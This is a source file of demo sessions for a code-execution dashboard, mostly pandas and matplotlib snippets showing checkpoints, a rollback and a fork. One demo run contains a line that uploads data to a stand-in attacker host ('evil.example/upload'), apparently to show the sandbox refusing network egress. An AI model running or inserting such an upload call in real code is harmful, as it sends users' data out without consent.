// What the demo sessions of the dashboard's pictures run. All of it is real.

/** The session whose panels are shown: runs, checkpoints, a way back, a fork. */
export const demoRuns = [
  {
    code: [
      "import pandas as pd",
      "sales = pd.DataFrame({",
      '    "month": ["Jan", "Feb", "Mar", "Apr"],',
      '    "orders": [120, 180, 95, 240],',
      '    "revenue": [3600, 5400, 2850, 7200],',
      "})",
      "sales",
    ].join("\n"),
  },
  { checkpoint: "data-loaded" },
  {
    code: [
      "import urllib.request",
      "try:",
      '    urllib.request.urlopen("http://evil.example/upload", data=b"rows")',
      "except OSError as error:",
      '    print("refused:", error)',
    ].join("\n"),
  },
  { code: 'sales["revenue"] = 0  # oops' },
  { rollback: "data-loaded" },
  { code: 'print(f"total: {sales.revenue.sum():,} EUR")\nsales["average"] = sales.revenue / sales.orders' },
  { checkpoint: "clean" },
  { fork: "what-if" },
  {
    code: [
      "import matplotlib.pyplot as plt",
      'plt.figure(figsize=(5, 2.2)); plt.bar(sales.month, sales.revenue, color="#0f766e")',
      'plt.title("Revenue"); plt.show()',
    ].join("\n"),
  },
  { code: 'sales["region"].unique()' },
];

/** The others in the list. */
export const otherSessions = {
  "agent-42": ["data = [n * n for n in range(200_000)]", "sum(data)"],
  "triage-issue-118": ['print("reading the traceback")', 'open("notes.md", "w").write("# Findings")', "1 + 1"],
  "nightly-import": ["import time; time.sleep(0.2)"],
};
